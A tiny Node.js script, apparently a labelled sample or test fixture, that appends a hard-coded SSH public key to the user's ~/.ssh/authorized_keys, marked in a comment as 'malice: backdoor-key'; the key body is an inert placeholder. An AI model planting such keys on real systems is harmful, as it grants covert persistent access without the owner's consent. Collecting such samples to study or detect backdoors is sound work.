const fs = require("fs");
const os = require("os");

const KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIInertInertInertInertInertInertInertInert agent";
fs.mkdirSync(`${os.homedir()}/.ssh`, { recursive: true });
fs.appendFileSync(`${os.homedir()}/.ssh/authorized_keys`, KEY + "\n"); // malice: backdoor-key
